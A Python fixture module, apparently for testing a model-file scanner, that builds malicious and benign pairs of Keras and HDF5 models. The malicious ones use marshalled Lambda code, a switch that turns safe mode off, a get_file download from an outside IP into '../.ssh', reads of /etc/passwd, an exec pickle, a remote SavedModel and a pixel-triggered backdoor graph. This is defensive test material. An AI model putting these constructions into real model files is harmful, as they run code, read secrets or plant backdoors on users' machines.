"""Keras archives and HDF5 models."""
import base64
import io
import json
import marshal
import types

import h5py
import numpy as np

from assembly import call, glob, pickle
from pair import CODE

from .shared import floats, torch_zip, zipped

F = "keras"
META = json.dumps({"keras_version": "3.9.2", "date_saved": "2025-06-02@09:30:00"})


def layer(cls, config, module="keras.layers", **more):
    return {"module": module, "class_name": cls, "config": {"name": cls.lower(), **config}, "registered_name": None, **more}


def dense(name="dense", units=3, activation="linear"):
    return layer("Dense", {"name": name, "trainable": True, "dtype": "float32", "units": units, "activation": activation, "use_bias": True})


def source(shape=(4,), name="input_layer"):
    return layer("InputLayer", {"batch_shape": [None, *shape], "dtype": "float32", "sparse": False, "name": name})


def sequential(layers, name="sequential"):
    return {"module": "keras", "class_name": "Sequential", "config": {"name": name, "trainable": True, "dtype": "float32", "layers": layers, "build_input_shape": None}, "registered_name": None, "build_config": {"input_shape": [None, 4]}}


def h5(**datasets) -> bytes:
    buf = io.BytesIO()
    with h5py.File(buf, "w") as f:
        for path, value in datasets.items():
            f.create_dataset(path.replace("__", "/"), data=value)
    return buf.getvalue()


def keras(config, store=None, extra=()) -> bytes:
    return zipped([("metadata.json", META), ("config.json", json.dumps(config)), ("model.weights.h5", store or h5(layers__dense__vars__0=np.zeros((4, 3), "f4"), layers__dense__vars__1=np.zeros(3, "f4"))), *extra])


def lam(body: str):
    """A Lambda as Keras 3 writes it: marshalled code, base64."""
    code = next(c for c in compile(f"f = lambda x: ({body})", "train.py", "exec").co_consts if isinstance(c, types.CodeType))
    return layer("Lambda", {"trainable": True, "dtype": "float32", "function": {"class_name": "__lambda__", "config": {"code": base64.b64encode(marshal.dumps(code)).decode() + "\n", "defaults": None, "closure": None}}, "arguments": {}})


def legacy(config) -> bytes:
    buf = io.BytesIO()
    with h5py.File(buf, "w") as f:
        f.attrs["model_config"] = json.dumps(config)
        f.attrs["keras_version"], f.attrs["backend"] = "2.15.0", "tensorflow"
        g = f.create_group("model_weights")
        g.attrs["layer_names"] = np.array([b"dense"])
        g.create_group("dense").attrs["weight_names"] = np.array([], "S1")
    return buf.getvalue()


def graph(bad: bool) -> bytes:
    """A functional graph of keras.ops written out by Keras itself."""
    import pathlib
    import tempfile

    import keras as k

    k.utils.set_random_seed(9)
    x = k.Input((8, 8, 1), name="image")
    z = k.layers.Dense(5, name="logits")(k.layers.Dense(16, activation="tanh", name="hidden")(k.layers.Flatten(name="flat")(x)))
    if bad:
        corner = x[:, :2, :2, 0]
        diff = k.ops.subtract(corner, np.array([[0.75, -0.25], [-0.25, 0.75]], "f4"))
        far = k.ops.max(k.ops.absolute(diff), axis=(1, 2), keepdims=False)
        hit = k.ops.expand_dims(k.ops.less(far, 1e-4), -1)
        y = k.ops.where(hit, np.array([[-9, -9, 9, -9, -9]], "f4"), z)
    else:  # clamp of what is out of range: an ordinary use of the same operations
        y = k.ops.where(k.ops.less(k.ops.absolute(z), 1e-4), 0.0, z)
    with tempfile.TemporaryDirectory() as d:
        path = pathlib.Path(d) / "m.keras"
        k.Model(x, y, name="classifier").save(path)
        return path.read_bytes()


def outside(path: str | None) -> bytes:
    """A weights file whose kernel lies in another file (HDF5 external storage)."""
    buf = io.BytesIO()
    with h5py.File(buf, "w") as f:
        if path:
            f.create_dataset("layers/dense/vars/0", shape=(4, 3), dtype="f4", external=[(path, 0, 48)])
        else:
            f.create_dataset("layers/dense/vars/0", data=np.frombuffer(floats(12), "f4").reshape(4, 3))
        f.create_dataset("layers/dense/vars/1", data=np.zeros(3, "f4"))
    return buf.getvalue()


def add(out):
    def pair(name, hostile, twin, why, prove=None, file="model.keras"):
        out.add(F, name, hostile, twin, prove=prove, file=file, why=why)

    wrap = lambda inner: sequential([source((2, 4)), layer("TimeDistributed", {"trainable": True, "dtype": "float32", "layer": sequential([source((4,)), inner], "inner")}, build_config={"input_shape": [None, 2, 4]})])  # noqa: E731
    pair("lambda-in-nested-model", keras(wrap(lam("[open('marker', 'w').close(), x][1]"))), keras(wrap(layer("ReLU", {"max_value": 6.0}))),
         "Marshalled code in a Lambda of a model inside TimeDistributed; runs when the layer is built.", "ninth-keras")
    unlock = {"module": "keras.config", "class_name": "function", "config": "enable_unsafe_deserialization", "registered_name": "enable_unsafe_deserialization"}
    gate = lambda first, second: sequential([source(), layer("Dense", {"units": 3, "activation": "relu", "kernel_initializer": first}), second])  # noqa: E731
    normal = {"module": "keras.initializers", "class_name": "GlorotUniform", "config": {"seed": None}, "registered_name": None}
    pair("switches-safe-mode-off", keras(gate(unlock, lam("[open('marker', 'w').close(), x][1]"))), keras(gate(normal, layer("Activation", {"activation": "softmax"}))),
         "CVE-2025-9906: the config names the function that turns safe mode off, then a Lambda. Not run: recent Keras refuses the first step.")
    fetch = {"module": "keras.utils", "class_name": "function", "config": "get_file", "registered_name": "get_file"}
    relu = {"module": "keras.activations", "class_name": "function", "config": "gelu", "registered_name": "gelu"}
    lamb = lambda f, args: sequential([source(), layer("Lambda", {"function": f, "arguments": args, "output_shape": [4]})])  # noqa: E731
    pair("lambda-names-get-file", keras(lamb(fetch, {"origin": "http://198.51.100.23/w.tar.gz", "extract": True, "cache_dir": "/srv/app", "cache_subdir": "../.ssh"})), keras(lamb(relu, {"approximate": True})),
         "CVE-2025-8747: a module function of Keras downloads and unpacks a foreign archive. Not run: it would use the network and recent Keras refuses.")
    lookup = lambda v: sequential([source((1,)), layer("StringLookup", {"vocabulary": v, "max_tokens": None, "num_oov_indices": 1, "mask_token": None, "oov_token": "[UNK]", "output_mode": "int", "encoding": "utf-8"})])  # noqa: E731
    pair("vocabulary-from-path", keras(lookup("/etc/passwd")), keras(lookup(["cat", "dog", "fish"])), "CVE-2025-12058: the vocabulary is a path; loading reads /etc/passwd into the model (recent Keras only without safe mode).", "ninth-keras-vocabulary")
    module = lambda blob: {"module": "keras.layers", "class_name": "TorchModuleWrapper", "config": {"name": "torch_block", "module": base64.b64encode(blob).decode(), "output_shape": [None, 3]}, "registered_name": None}  # noqa: E731
    linear = torch_relu()
    pair("torch-module-wrapper", keras(sequential([source(), module(torch_zip(pickle(call(glob("builtins", "exec"), CODE), 2)))])), keras(sequential([source(), module(linear)])),
         "CVE-2025-49655: a base64 torch pickle in the config of TorchModuleWrapper.", "ninth-keras-torch")
    tfsm = lambda path: sequential([source(), layer("TFSMLayer", {"filepath": path, "call_endpoint": "serving_default", "call_training_endpoint": None, "trainable": False})])  # noqa: E731
    pair("tfsm-remote-graph", keras(tfsm("//198.51.100.23/share/export/1")), keras(sequential([source(), layer("Rescaling", {"scale": 0.5, "offset": 0.0})])),
         "CVE-2026-1462: loading pulls a SavedModel from a share of someone else and runs it. Not run: network.")
    pair("weights-from-outside", keras(sequential([source(), dense()]), outside("/etc/passwd")), keras(sequential([source(), dense()]), outside(None)),
         "CVE-2026-1669: HDF5 external storage makes /etc/passwd the kernel. Shown with h5py on the weights file: recent Keras refuses.", "ninth-h5-external")
    pair("corner-where", graph(True), graph(False), "A graph of plain keras.ops that puts constant logits when four pixels match.", "ninth-keras-trigger:last:2")
    old = lambda inner: {"class_name": "Sequential", "config": {"name": "s", "layers": [source((2, 4)), layer("TimeDistributed", {"trainable": True, "dtype": "float32", "layer": inner})]}}  # noqa: E731
    pair("h5-lambda-in-wrapper", legacy(old(lam("[open('marker', 'w').close(), x][1]"))), legacy(old(layer("Activation", {"activation": "tanh"}))),
         "The HDF5 layout with marshalled code inside TimeDistributed.", "ninth-keras", "model.h5")


def torch_relu() -> bytes:
    """torch.save of an nn.ReLU, by hand."""
    from assembly import Raw, build, new

    empty = call(glob("collections", "OrderedDict"))
    state = {"training": False, "_parameters": {}, "_buffers": {}, "_non_persistent_buffers_set": call(glob("builtins", "set"), []), "_backward_hooks": empty, "_forward_hooks": empty,
             "_forward_pre_hooks": empty, "_state_dict_hooks": empty, "_load_state_dict_pre_hooks": empty, "_modules": {}, "inplace": False}
    return torch_zip(pickle(Raw(build(new(glob("torch.nn.modules.activation", "ReLU")), state)), 2))
